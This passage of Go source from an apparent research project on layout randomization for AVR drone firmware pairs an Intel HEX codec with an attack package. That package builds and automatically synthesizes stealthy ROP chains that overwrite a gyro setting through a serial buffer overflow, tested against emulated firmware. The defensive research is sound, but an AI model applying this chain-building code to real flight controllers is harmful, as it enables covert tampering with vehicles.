func TestDecodeEmptyImage(t *testing.T) {
	got, err := hexfile.DecodeString(":00000001FF\n")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 0 {
		t.Errorf("empty image decoded to %d bytes", len(got))
	}
}

func TestEncodeEmpty(t *testing.T) {
	s, err := hexfile.EncodeToString(nil)
	if err != nil {
		t.Fatal(err)
	}
	if s != ":00000001FF\n" {
		t.Errorf("empty image encodes to %q", s)
	}
}
