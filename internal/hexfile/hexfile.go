// Package hexfile implements the Intel HEX format used to ship AVR
// firmware images to flash programmers such as avrdude. The MAVR
// toolchain converts ELF binaries to HEX, prepends symbol information
// (see internal/core) and uploads the result to the external flash chip.
package hexfile

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"sort"
	"strings"
)

// Record types defined by the Intel HEX specification.
const (
	recData          = 0x00
	recEOF           = 0x01
	recExtSegment    = 0x02
	recStartSegment  = 0x03
	recExtLinear     = 0x04
	recStartLinear   = 0x05
	defaultRowLength = 16
)

// Common decode errors.
var (
	ErrBadChecksum = errors.New("hexfile: checksum mismatch")
	ErrNoEOF       = errors.New("hexfile: missing EOF record")
)

// Image is a contiguous firmware image starting at byte address 0.
// Gaps between records are filled with 0xFF (erased flash).
type Image struct {
	Data []byte
}

// Encode renders the image as Intel HEX with 16-byte data records,
// emitting type-04 extended linear address records when crossing 64KB
// boundaries (the ATmega2560's 256KB flash requires them).
func Encode(w io.Writer, data []byte) error {
	bw := bufio.NewWriter(w)
	lastHigh := uint32(0xFFFFFFFF)
	for off := 0; off < len(data); off += defaultRowLength {
		end := off + defaultRowLength
		if end > len(data) {
			end = len(data)
		}
		row := data[off:end]
		high := uint32(off) >> 16
		if high != lastHigh {
			if err := writeRecord(bw, 0, recExtLinear, []byte{byte(high >> 8), byte(high)}); err != nil {
				return err
			}
			lastHigh = high
		}
		if err := writeRecord(bw, uint16(off), recData, row); err != nil {
			return err
		}
	}
	if err := writeRecord(bw, 0, recEOF, nil); err != nil {
		return err
	}
	return bw.Flush()
}

// EncodeToString renders data as an Intel HEX string.
func EncodeToString(data []byte) (string, error) {
	var sb strings.Builder
	if err := Encode(&sb, data); err != nil {
		return "", err
	}
	return sb.String(), nil
}

func writeRecord(w io.Writer, addr uint16, typ byte, data []byte) error {
	sum := byte(len(data)) + byte(addr>>8) + byte(addr) + typ
	var sb strings.Builder
	fmt.Fprintf(&sb, ":%02X%04X%02X", len(data), addr, typ)
	for _, b := range data {
		fmt.Fprintf(&sb, "%02X", b)
		sum += b
	}
	fmt.Fprintf(&sb, "%02X\n", byte(-int8(sum)))
	_, err := io.WriteString(w, sb.String())
	return err
}

// Decode parses Intel HEX text into a flat image. Unwritten bytes below
// the highest written address read as 0xFF.
func Decode(r io.Reader) ([]byte, error) {
	type chunk struct {
		addr uint32
		data []byte
	}
	var (
		chunks  []chunk
		base    uint32
		sawEOF  bool
		scanner = bufio.NewScanner(r)
	)
	scanner.Buffer(make([]byte, 1024*1024), 1024*1024)
	lineNo := 0
	for scanner.Scan() {
		lineNo++
		line := strings.TrimSpace(scanner.Text())
		if line == "" {
			continue
		}
		if !strings.HasPrefix(line, ":") {
			return nil, fmt.Errorf("hexfile: line %d: missing ':' start code", lineNo)
		}
		raw, err := parseHexBytes(line[1:])
		if err != nil {
			return nil, fmt.Errorf("hexfile: line %d: %w", lineNo, err)
		}
		if len(raw) < 5 {
			return nil, fmt.Errorf("hexfile: line %d: record too short", lineNo)
		}
		count := int(raw[0])
		if len(raw) != 5+count {
			return nil, fmt.Errorf("hexfile: line %d: length mismatch", lineNo)
		}
		var sum byte
		for _, b := range raw {
			sum += b
		}
		if sum != 0 {
			return nil, fmt.Errorf("line %d: %w", lineNo, ErrBadChecksum)
		}
		addr := uint16(raw[1])<<8 | uint16(raw[2])
		typ := raw[3]
		payload := raw[4 : 4+count]
		switch typ {
		case recData:
			c := chunk{addr: base + uint32(addr), data: make([]byte, count)}
			copy(c.data, payload)
			chunks = append(chunks, c)
		case recEOF:
			sawEOF = true
		case recExtLinear:
			if count != 2 {
				return nil, fmt.Errorf("hexfile: line %d: bad extended linear record", lineNo)
			}
			base = uint32(payload[0])<<24 | uint32(payload[1])<<16
		case recExtSegment:
			if count != 2 {
				return nil, fmt.Errorf("hexfile: line %d: bad extended segment record", lineNo)
			}
			base = (uint32(payload[0])<<8 | uint32(payload[1])) << 4
		case recStartSegment, recStartLinear:
			// Entry-point records carry no data; ignored.
		default:
			return nil, fmt.Errorf("hexfile: line %d: unknown record type 0x%02X", lineNo, typ)
		}
	}
	if err := scanner.Err(); err != nil {
		return nil, err
	}
	if !sawEOF {
		return nil, ErrNoEOF
	}
	var max uint32
	for _, c := range chunks {
		if end := c.addr + uint32(len(c.data)); end > max {
			max = end
		}
	}
	out := make([]byte, max)
	for i := range out {
		out[i] = 0xFF
	}
	sort.SliceStable(chunks, func(i, j int) bool { return chunks[i].addr < chunks[j].addr })
	for _, c := range chunks {
		copy(out[c.addr:], c.data)
	}
	return out, nil
}

// DecodeString parses an Intel HEX string.
func DecodeString(s string) ([]byte, error) {
	return Decode(strings.NewReader(s))
}

func parseHexBytes(s string) ([]byte, error) {
	if len(s)%2 != 0 {
		return nil, errors.New("odd hex digit count")
	}
	out := make([]byte, len(s)/2)
	for i := 0; i < len(s); i += 2 {
		hi, ok1 := hexDigit(s[i])
		lo, ok2 := hexDigit(s[i+1])
		if !ok1 || !ok2 {
			return nil, fmt.Errorf("bad hex digits %q", s[i:i+2])
		}
		out[i/2] = hi<<4 | lo
	}
	return out, nil
}

func hexDigit(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	}
	return 0, false
}
