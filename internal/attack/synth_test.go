package attack_test

import (
	"bytes"
	"errors"
	"math/rand"
	"reflect"
	"testing"

	"mavr/internal/attack"
	"mavr/internal/core"
	"mavr/internal/firmware"
)

// The synthesizer must find a working chain against the unprotected
// build of at least 3 of the 4 firmware profiles without any
// hand-authored gadget knowledge (the acceptance bar; in practice all
// four yield a stealthy clean-return chain).
func TestSynthesizeAcrossProfiles(t *testing.T) {
	profiles := append([]firmware.AppSpec{firmware.TestApp()}, firmware.Profiles()...)
	found := 0
	for _, p := range profiles {
		img, err := firmware.Generate(p, firmware.ModeMAVR)
		if err != nil {
			t.Fatal(err)
		}
		s, err := attack.Synthesize(img.ELF, attack.SynthOptions{Stealth: true, Seed: 1})
		if err != nil {
			t.Fatalf("%s: %v", p.Name, err)
		}
		t.Logf("%s: gadgets=%d pivots=%d writers=%d attempts=%d found=%v stealthy=%v",
			p.Name, s.GadgetCount, s.PivotShapes, s.WriterShapes, s.Attempts, s.Found, s.Stealthy)
		if s.Found {
			found++
		}
		if p.Name == "testapp" && !s.Stealthy {
			t.Errorf("testapp: no stealthy chain synthesized (log: %+v)", s.Log)
		}
	}
	if found < 3 {
		t.Errorf("synthesis found chains for %d/%d profiles, want >= 3", found, len(profiles))
	}
}

// Same seed, same binary — byte-identical search: the trial log and the
// winning payload must match across runs.
func TestSynthesizeDeterministic(t *testing.T) {
	img := genImage(t)
	opts := attack.SynthOptions{Stealth: true, Seed: 42}
	s1, err := attack.Synthesize(img.ELF, opts)
	if err != nil {
		t.Fatal(err)
	}
	s2, err := attack.Synthesize(img.ELF, opts)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(s1.Log, s2.Log) {
		t.Errorf("trial logs differ across runs:\n%+v\n%+v", s1.Log, s2.Log)
	}
	if !bytes.Equal(s1.Payload, s2.Payload) {
		t.Error("synthesized payloads differ across runs")
	}
}

// PayloadFor rebuilds the synthesized chain for an arbitrary write; the
// result must land stealthily on the attacker's copy: write present, no
// fault, UART drained.
func TestSynthesisPayloadForLandsCleanly(t *testing.T) {
	img := genImage(t)
	s, err := attack.Synthesize(img.ELF, attack.SynthOptions{Stealth: true, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	if !s.Stealthy {
		t.Fatal("no stealthy chain on testapp")
	}
	w := attack.Write{Addr: firmware.AddrFreeMem + 0x40, Vals: [3]byte{0x11, 0x22, 0x33}}
	p, err := s.PayloadFor(w)
	if err != nil {
		t.Fatal(err)
	}
	sim, err := attack.NewSim(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	if fault := sim.Deliver(attack.Frame(p), 500_000); fault != nil {
		t.Fatalf("stealthy payload faulted: %v", fault)
	}
	for i := 0; i < 3; i++ {
		if got := sim.CPU.Data[w.Addr+uint16(i)]; got != w.Vals[i] {
			t.Errorf("Data[0x%04X] = 0x%02X, want 0x%02X", w.Addr+uint16(i), got, w.Vals[i])
		}
	}
}

// A chain synthesized against epoch-0 knowledge must misfire when the
// victim re-randomizes underneath it — the chain spans a
// re-randomization epoch and every shaped address points into a
// different function body.
func TestSynthesizedChainStaleAcrossEpoch(t *testing.T) {
	img := genImage(t)
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(99))
	r, err := core.Randomize(pre, core.Permutation(rng, len(pre.Blocks)))
	if err != nil {
		t.Fatal(err)
	}

	s, err := attack.SynthesizeAgainst(img.ELF, r.Image, attack.SynthOptions{Stealth: true, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if s.Found {
		t.Errorf("stale shape set found a chain against the re-randomized image: %+v", s.Log)
	}

	// And the epoch-0 payload itself, replayed verbatim, must not land.
	s0, err := attack.Synthesize(img.ELF, attack.SynthOptions{Stealth: true, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	sim, err := attack.NewSim(r.Image)
	if err != nil {
		t.Fatal(err)
	}
	_ = sim.Deliver(attack.Frame(s0.Payload), 500_000)
	if sim.CPU.Data[firmware.AddrGyroCfg] == 0x5A {
		t.Error("stale epoch-0 payload landed its write on the re-randomized image")
	}
}

// The cost curve is the paper's n! bound measured: trivial cost at
// epoch 0, full-budget exhaustion (stale shapes + blind probes) at
// every later epoch.
func TestSynthesisCostCurveShape(t *testing.T) {
	const budget = 24
	pts, err := attack.SynthesisCostCurve(firmware.TestApp(), 2, budget, 7)
	if err != nil {
		t.Fatal(err)
	}
	if len(pts) != 3 {
		t.Fatalf("curve has %d points, want 3", len(pts))
	}
	if !pts[0].Found || !pts[0].Stealthy || pts[0].Attempts > 4 {
		t.Errorf("epoch 0 = %+v, want a cheap stealthy hit", pts[0])
	}
	for _, pt := range pts[1:] {
		if pt.Found {
			t.Errorf("epoch %d: stale knowledge found a chain (%+v)", pt.Epoch, pt)
		}
		if pt.Attempts != budget {
			t.Errorf("epoch %d spent %d attempts, want the full budget %d", pt.Epoch, pt.Attempts, budget)
		}
		if pt.Blind == 0 {
			t.Errorf("epoch %d fired no blind probes (%+v)", pt.Epoch, pt)
		}
	}
}

// Hunt edge cases: an empty candidate list spends nothing and finds
// nothing; a failing image source propagates its error.
func TestHuntEdgeCases(t *testing.T) {
	img := genImage(t)
	geom := analyze(t, img)

	res, err := attack.HuntFixedLayout(img.Flash, geom, nil, 0x9A)
	if err != nil {
		t.Fatal(err)
	}
	if res.Probes != 0 || res.Found {
		t.Errorf("empty hunt = %+v, want zero probes, not found", res)
	}

	wantErr := errors.New("flash read failed")
	res, err = attack.HuntRerandomized(func() ([]byte, error) { return nil, wantErr },
		geom, []uint32{geom.WriteMem.StoreAddr}, 0x9A)
	if !errors.Is(err, wantErr) {
		t.Errorf("hunt error = %v, want %v", err, wantErr)
	}
	if res.Probes != 1 || res.Found {
		t.Errorf("failed hunt = %+v, want one probe, not found", res)
	}
}

// Chain-builder edge cases: empty write lists are rejected, and a chain
// that outgrows the vulnerable frame reports ErrPayloadTooLong.
func TestChainEdgeCases(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)

	if _, err := attack.BuildV1(a); err == nil {
		t.Error("BuildV1 with no writes succeeded")
	}

	// Each V2 write costs a loader frame + ret; enough of them overflow
	// the in-buffer chain region.
	var many []attack.Write
	for i := 0; i < 12; i++ {
		many = append(many, attack.Write{Addr: firmware.AddrFreeMem + uint16(3*i), Vals: [3]byte{1, 2, 3}})
	}
	if _, err := attack.BuildV2(a, many...); !errors.Is(err, attack.ErrPayloadTooLong) {
		t.Errorf("oversized V2 chain error = %v, want ErrPayloadTooLong", err)
	}
}
