package attack_test

import (
	"strings"
	"testing"

	"mavr/internal/attack"
	"mavr/internal/firmware"
	"mavr/internal/gadget"
)

func genImage(t *testing.T) *firmware.Image {
	t.Helper()
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func analyze(t *testing.T, img *firmware.Image) *attack.Analysis {
	t.Helper()
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestAnalyzeFindsGadgetsAndGeometry(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)
	if a.StkMove == nil || a.WriteMem == nil {
		t.Fatal("missing gadgets")
	}
	if a.GadgetCount < 50 {
		t.Errorf("gadget census = %d, implausibly low", a.GadgetCount)
	}
	if a.FrameBytes != firmware.HandlerFrameBytes {
		t.Errorf("frame = %d, want %d", a.FrameBytes, firmware.HandlerFrameBytes)
	}
	if len(a.PushRegs) != firmware.HandlerSavedRegs {
		t.Errorf("push regs = %v, want %d registers", a.PushRegs, firmware.HandlerSavedRegs)
	}
	if a.OrigRet == 0 {
		t.Error("probe found zero return address")
	}
	// The buffer must sit below the saved registers in SRAM.
	if !(a.BufAddr < a.S0) {
		t.Errorf("buffer 0x%04X not below S0 0x%04X", a.BufAddr, a.S0)
	}
}

func TestGadgetScanFindsPaperShapes(t *testing.T) {
	img := genImage(t)
	sm, err := gadget.FindStkMove(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	if sm.SPHReg != 29 || sm.SPLReg != 28 {
		t.Errorf("stk_move uses r%d/r%d, want r29/r28 (Fig. 4)", sm.SPHReg, sm.SPLReg)
	}
	wm, err := gadget.FindWriteMem(img.Flash, 16)
	if err != nil {
		t.Fatal(err)
	}
	if wm.StoreRegs != [3]int{5, 6, 7} {
		t.Errorf("write_mem stores %v, want r5..r7 (Fig. 5)", wm.StoreRegs)
	}
	if len(wm.PopRegs) < 16 {
		t.Errorf("write_mem pops %d regs, want >= 16", len(wm.PopRegs))
	}
	if wm.PopRegs[0] != 29 || wm.PopRegs[1] != 28 {
		t.Errorf("write_mem pop order starts %v, want r29, r28", wm.PopRegs[:2])
	}
}

// V1: the write lands but the board crashes afterwards (§IV-C).
func TestV1WritesButCrashes(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)
	payload, err := attack.BuildV1(a, attack.GyroCfgWrite(0x7F))
	if err != nil {
		t.Fatal(err)
	}
	sim, err := attack.NewSim(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	fault := sim.Deliver(attack.Frame(payload), 500_000)
	if fault == nil {
		t.Fatal("V1 did not crash the board")
	}
	if got := sim.CPU.Data[firmware.AddrGyroCfg]; got != 0x7F {
		t.Errorf("gyro config = 0x%02X, want 0x7F (write did not land)", got)
	}
}

// V2: the write lands AND the board keeps flying (§IV-D).
func TestV2StealthyCleanReturn(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x55))
	if err != nil {
		t.Fatal(err)
	}
	sim, err := attack.NewSim(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	// Let it fly a little first.
	if f := sim.Run(500_000); f != nil {
		t.Fatalf("pre-attack fault: %v", f)
	}
	txBefore := len(sim.TX())
	if f := sim.Deliver(attack.Frame(payload), 500_000); f != nil {
		t.Fatalf("V2 crashed the board: %v", f)
	}
	if got := sim.CPU.Data[firmware.AddrGyroCfg]; got != 0x55 {
		t.Errorf("gyro config = 0x%02X, want 0x55", got)
	}
	if !sim.RxDrained() {
		t.Error("firmware stopped consuming serial input")
	}
	// Telemetry must continue: pulses after the attack.
	if len(sim.TX()) <= txBefore+firmware.PulseSize {
		t.Error("telemetry stopped after the attack — not stealthy")
	}
	// The corrupted gyro must show up in later telemetry (raw 10 + 0x55).
	tx := sim.TX()
	found := false
	for i := len(tx) - 60; i+2 < len(tx); i++ {
		if i >= 0 && tx[i] == firmware.PulseMagic && tx[i+2] == byte(10+0x55) {
			found = true
			break
		}
	}
	if !found {
		t.Error("attacked gyro value never appeared in telemetry")
	}
}

// After the clean return the firmware must still process further
// legitimate packets — repeatable stealthy attacks (§IV-D).
func TestV2IsRepeatable(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)
	sim, err := attack.NewSim(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range []byte{0x11, 0x22, 0x33} {
		payload, err := attack.BuildV2(a, attack.GyroCfgWrite(v))
		if err != nil {
			t.Fatal(err)
		}
		if f := sim.Deliver(attack.Frame(payload), 300_000); f != nil {
			t.Fatalf("attack %d crashed: %v", i, f)
		}
		if got := sim.CPU.Data[firmware.AddrGyroCfg]; got != v {
			t.Fatalf("attack %d: gyro config = 0x%02X, want 0x%02X", i, got, v)
		}
	}
}

// V3: an arbitrarily large staged payload, fully stealthy (§IV-E).
func TestV3TrampolineLargePayload(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)
	// Large payload: write a 60-byte block into SRAM at 0x1800 (twenty
	// 3-byte writes), far beyond what a single 255-byte frame chain
	// could carry.
	var big []attack.Write
	for i := 0; i < 20; i++ {
		big = append(big, attack.Write{
			Addr: 0x1800 + uint16(3*i),
			Vals: [3]byte{byte(i), byte(i + 100), byte(i + 200)},
		})
	}
	packets, err := attack.BuildV3(a, big, firmware.AddrFreeMem)
	if err != nil {
		t.Fatal(err)
	}
	if len(packets) < 20 {
		t.Fatalf("only %d staging packets", len(packets))
	}
	staged := attack.StagedChainLen(a, len(big))
	if staged <= 255 {
		t.Errorf("staged chain %d bytes — should exceed a single frame to demonstrate V3", staged)
	}

	sim, err := attack.NewSim(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range packets {
		if f := sim.Deliver(attack.Frame(p), 200_000); f != nil {
			t.Fatalf("packet %d/%d crashed the board: %v", i+1, len(packets), f)
		}
	}
	for i, w := range big {
		for j := 0; j < 3; j++ {
			if got := sim.CPU.Data[int(w.Addr)+j]; got != w.Vals[j] {
				t.Errorf("big write %d byte %d = 0x%02X, want 0x%02X", i, j, got, w.Vals[j])
			}
		}
	}
	// And the board is still alive.
	if f := sim.Run(500_000); f != nil {
		t.Fatalf("board dead after V3: %v", f)
	}
}

// The stealthy payload against a DIFFERENT (re-randomized) layout must
// fail — this is what MAVR exploits. Here we emulate the mismatch by
// attacking firmware generated with a different seed.
func TestV2AgainstDifferentLayoutFails(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x99))
	if err != nil {
		t.Fatal(err)
	}
	other := firmware.TestApp()
	other.Seed = 0xBADC0DE
	otherImg, err := firmware.Generate(other, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	sim, err := attack.NewSim(otherImg.Flash)
	if err != nil {
		t.Fatal(err)
	}
	fault := sim.Deliver(attack.Frame(payload), 500_000)
	if fault == nil && sim.CPU.Data[firmware.AddrGyroCfg] == 0x99 {
		t.Error("stale payload still succeeded against a different layout")
	}
}

func TestTraceV2ProducesFig6Progression(t *testing.T) {
	img := genImage(t)
	a := analyze(t, img)
	snaps, err := attack.TraceV2(a, img.Flash, attack.GyroCfgWrite(0x55))
	if err != nil {
		t.Fatal(err)
	}
	if len(snaps) != 6 {
		t.Fatalf("got %d snapshots, want 6", len(snaps))
	}
	// The pivot stage must show SP inside the overflowed buffer region.
	pivot := snaps[2]
	if !(pivot.SP >= a.BufAddr-2 && pivot.SP < a.S0) {
		t.Errorf("during payload execution SP=0x%04X, expected within buffer [0x%04X, 0x%04X)",
			pivot.SP, a.BufAddr-2, a.S0)
	}
	// The final stage must show SP where a normal handler return leaves
	// it (S0+3: the 3-byte return address consumed).
	last := snaps[len(snaps)-1]
	if last.SP != a.S0+3 {
		t.Errorf("after clean return SP=0x%04X, want 0x%04X", last.SP, a.S0+3)
	}
	for _, s := range snaps {
		if !strings.Contains(s.String(), "SP=") {
			t.Error("snapshot rendering broken")
		}
	}
}
