package attack

import (
	"errors"
	"fmt"
	"math/rand"
	"sort"

	"mavr/internal/avr"
	"mavr/internal/core"
	"mavr/internal/elfobj"
	"mavr/internal/firmware"
	"mavr/internal/gadget"
)

// Chain synthesis replaces the hand-authored V1/V2/V3 construction with
// a search: enumerate every pivot-, store- and loader-shaped entry
// point in the binary (gadget.PivotShapes/StoreRuns/PopChains — the
// canonical Fig. 4/5 gadgets plus the generalized shapes of the RISC-V
// ROP catalogue), compose candidate chains over them, and validate each
// candidate by firing it at an emulated copy of the victim. The search
// is coverage-guided in two phases, using the emulator as the oracle:
//
//  1. landing — find a writer (loader+store composition) whose chain
//     gets the marker write into data space at all, crash tolerated;
//  2. stealth — keep the landed writer (the feedback from phase 1) and
//     search pivot shapes for a clean-return chain: frame repaired,
//     no fault, firmware still draining its UART afterwards.
//
// Everything is deterministic: candidate order is a pure function of
// the image and the options' Seed, and the emulator is cycle-exact.

// WriterShape is a composed write primitive: enter at LoadAddr to pop
// LoadPops (which must cover Y and the stored registers), return into
// StoreAddr to perform three stores at Y+QBase..Y+QBase+2, after which
// the store entry's own TailPops run (junk) and its ret continues the
// chain. Fused writers are Fig. 5-style — the store's own pop tail is
// the loader; split writers borrow a separate pop-chain gadget.
type WriterShape struct {
	LoadAddr  uint32
	LoadPops  []int
	StoreAddr uint32
	StoreRegs [3]int
	QBase     int
	TailPops  []int
	Fused     bool
}

// SynthOptions tunes a synthesis run.
type SynthOptions struct {
	// Stealth also runs phase 2 (clean-return search) after a landing
	// chain is found.
	Stealth bool
	// MaxAttempts bounds the total number of emulator trials (default
	// 64). Each trial boots a fresh copy of the target.
	MaxAttempts int
	// Seed orders equally-ranked candidates (deterministic per seed).
	Seed int64
	// Write is the target write the synthesized payload performs; the
	// zero value defaults to a 3-byte marker at the gyro config address.
	Write Write
	// GadgetWords is the scan window (default 24).
	GadgetWords int
}

func (o SynthOptions) withDefaults() SynthOptions {
	if o.MaxAttempts == 0 {
		o.MaxAttempts = 64
	}
	if o.Write.Addr == 0 {
		o.Write = Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{0x5A, 0xA5, 0x3C}}
	}
	if o.GadgetWords == 0 {
		o.GadgetWords = 24
	}
	return o
}

// SynthAttempt is one emulator trial in the search log.
type SynthAttempt struct {
	// Phase is "landing" or "stealth".
	Phase string `json:"phase"`
	// Pivot is the pivot entry word address (stealth only).
	Pivot uint32 `json:"pivot,omitempty"`
	// Load and Store are the trialed writer's entry addresses.
	Load  uint32 `json:"load"`
	Store uint32 `json:"store"`
	// Outcome is "landed-clean", "landed-crash", "crashed", "no-effect"
	// or "unbuildable" (the candidate does not fit the frame).
	Outcome string `json:"outcome"`
}

// Synthesis is the result of a chain-synthesis search.
type Synthesis struct {
	// GadgetCount, PivotShapes and WriterShapes size the search space.
	GadgetCount  int `json:"gadgetCount"`
	PivotShapes  int `json:"pivotShapes"`
	WriterShapes int `json:"writerShapes"`
	// Attempts is the number of emulator trials spent.
	Attempts int `json:"attempts"`
	// Found reports a chain that performed the write (possibly crashing
	// afterwards, V1-grade); Stealthy reports a clean-return chain
	// (V2-grade).
	Found    bool `json:"found"`
	Stealthy bool `json:"stealthy"`
	// Writer and Pivot are the winning shapes (Pivot nil for V1-grade).
	Writer *WriterShape    `json:"writer,omitempty"`
	Pivot  *gadget.StkMove `json:"pivot,omitempty"`
	// Payload is the winning overflow payload for the requested write.
	Payload []byte `json:"-"`
	// Log records every trial in order.
	Log []SynthAttempt `json:"log,omitempty"`

	frame *Analysis
}

// Synthesis errors.
var (
	ErrNoWriterShapes = errors.New("attack: no write-shaped gadget candidates in image")
	ErrPivotUnsaved   = errors.New("attack: pivot registers are not saved by the handler")
)

// Synthesize searches for a working chain against the attacker's own
// copy of the binary (the paper's threat model: the stock image is
// public).
func Synthesize(elf *elfobj.File, opts SynthOptions) (*Synthesis, error) {
	return SynthesizeAgainst(elf, elf.Text, opts)
}

// SynthesizeAgainst runs the same search but validates candidates
// against a different target image — the stale-knowledge experiment:
// shapes and geometry come from the base binary the attacker analyzed,
// probes run against the (possibly re-randomized) victim.
func SynthesizeAgainst(elf *elfobj.File, target []byte, opts SynthOptions) (*Synthesis, error) {
	opts = opts.withDefaults()
	frame, err := AnalyzeFrame(elf)
	if err != nil {
		return nil, err
	}
	gs := gadget.Scan(elf.Text, opts.GadgetWords)
	pivots := gadget.PivotShapes(gs)
	writers := writerCandidates(gs)
	orderWriters(writers, opts.Seed)
	s := &Synthesis{
		GadgetCount:  len(gs),
		PivotShapes:  len(pivots),
		WriterShapes: len(writers),
		frame:        frame,
	}
	if len(writers) == 0 {
		return s, ErrNoWriterShapes
	}
	sim, err := NewSim(target)
	if err != nil {
		return nil, err
	}

	// Phase 1: landing. Trial writers until one gets the marker write
	// into data space — the emulator feedback that the loader/store
	// composition works at all.
	for _, wr := range writers {
		if s.Attempts >= opts.MaxAttempts {
			break
		}
		s.Attempts++
		at := SynthAttempt{Phase: "landing", Load: wr.LoadAddr, Store: wr.StoreAddr}
		p, err := landingPayloadFor(frame, wr, opts.Write)
		if err != nil {
			at.Outcome = "unbuildable"
			s.Log = append(s.Log, at)
			continue
		}
		pr := probePayload(sim, target, p, opts.Write)
		at.Outcome = pr.outcome()
		s.Log = append(s.Log, at)
		if pr.landed {
			s.Found = true
			s.Writer = wr
			s.Payload = p
			break
		}
	}
	if !s.Found || !opts.Stealth {
		return s, nil
	}

	// Phase 2: stealth. Keep the landed writer (plus a couple of
	// alternates) and search pivot shapes for a clean return.
	wrOrder := []*WriterShape{s.Writer}
	for _, wr := range writers {
		if len(wrOrder) >= 3 {
			break
		}
		if wr != s.Writer {
			wrOrder = append(wrOrder, wr)
		}
	}
outer:
	for _, pv := range pivots {
		for _, wr := range wrOrder {
			if s.Attempts >= opts.MaxAttempts {
				break outer
			}
			s.Attempts++
			at := SynthAttempt{Phase: "stealth", Pivot: pv.Addr, Load: wr.LoadAddr, Store: wr.StoreAddr}
			p, err := stealthPayloadFor(frame, pv, wr, opts.Write)
			if err != nil {
				at.Outcome = "unbuildable"
				s.Log = append(s.Log, at)
				continue
			}
			pr := probePayload(sim, target, p, opts.Write)
			at.Outcome = pr.outcome()
			s.Log = append(s.Log, at)
			if pr.landed && pr.clean() {
				s.Stealthy = true
				s.Pivot = pv
				s.Writer = wr
				s.Payload = p
				break outer
			}
		}
	}
	return s, nil
}

// PayloadFor rebuilds the synthesized chain for a different write —
// stealthy when phase 2 succeeded, landing (V1-grade) otherwise.
func (s *Synthesis) PayloadFor(w Write) ([]byte, error) {
	if s.Writer == nil {
		return nil, ErrNoWriterShapes
	}
	if s.Stealthy {
		return stealthPayloadFor(s.frame, s.Pivot, s.Writer, w)
	}
	return landingPayloadFor(s.frame, s.Writer, w)
}

// writerCandidates composes writer shapes from a scan: fused store
// runs whose own tail reloads Y and the stored registers, and split
// compositions pairing the remaining store runs with the smallest
// covering pop-chain loader.
func writerCandidates(gs []*gadget.Gadget) []*WriterShape {
	runs := gadget.StoreRuns(gs)
	chains := gadget.PopChains(gs)
	var out []*WriterShape
	for _, r := range runs {
		if r.StoreRegs[0] == r.StoreRegs[1] || r.StoreRegs[1] == r.StoreRegs[2] || r.StoreRegs[0] == r.StoreRegs[2] {
			continue // duplicate store regs cannot carry three independent bytes
		}
		if hasReg(r.StoreRegs[:], 28) || hasReg(r.StoreRegs[:], 29) {
			continue // storing through Y from Y itself — values not independent
		}
		need := []int{28, 29, r.StoreRegs[0], r.StoreRegs[1], r.StoreRegs[2]}
		if coversAll(r.TailPops, need) {
			out = append(out, &WriterShape{
				LoadAddr: r.TailAddr, LoadPops: r.TailPops,
				StoreAddr: r.Addr, StoreRegs: r.StoreRegs, QBase: r.QBase,
				TailPops: r.TailPops, Fused: true,
			})
			continue
		}
		var best *gadget.PopChain
		for _, c := range chains {
			if c.Addr == r.TailAddr || !coversAll(c.PopRegs, need) {
				continue
			}
			if best == nil || len(c.PopRegs) < len(best.PopRegs) {
				best = c
			}
		}
		if best != nil {
			out = append(out, &WriterShape{
				LoadAddr: best.Addr, LoadPops: best.PopRegs,
				StoreAddr: r.Addr, StoreRegs: r.StoreRegs, QBase: r.QBase,
				TailPops: r.TailPops, Fused: false,
			})
		}
	}
	return out
}

// orderWriters ranks candidates: fused before split (fewer chain bytes
// and fewer assumptions), shorter loaders first, seed-mixed tiebreak.
func orderWriters(ws []*WriterShape, seed int64) {
	sort.SliceStable(ws, func(i, j int) bool {
		a, b := ws[i], ws[j]
		if a.Fused != b.Fused {
			return a.Fused
		}
		if len(a.LoadPops) != len(b.LoadPops) {
			return len(a.LoadPops) < len(b.LoadPops)
		}
		ha, hb := mix64(seed, uint64(a.StoreAddr)), mix64(seed, uint64(b.StoreAddr))
		if ha != hb {
			return ha < hb
		}
		return a.StoreAddr < b.StoreAddr
	})
}

// mix64 is a SplitMix64 finalizer over (seed, v) — the deterministic
// tiebreak that makes candidate order a pure function of the seed.
func mix64(seed int64, v uint64) uint64 {
	x := uint64(seed)*0x9E3779B97F4A7C15 + v
	x ^= x >> 30
	x *= 0xBF58476D1CE4E5B9
	x ^= x >> 27
	x *= 0x94D049BB133111EB
	return x ^ x>>31
}

func hasReg(s []int, r int) bool {
	for _, x := range s {
		if x == r {
			return true
		}
	}
	return false
}

func coversAll(have, need []int) bool {
	for _, n := range need {
		if !hasReg(have, n) {
			return false
		}
	}
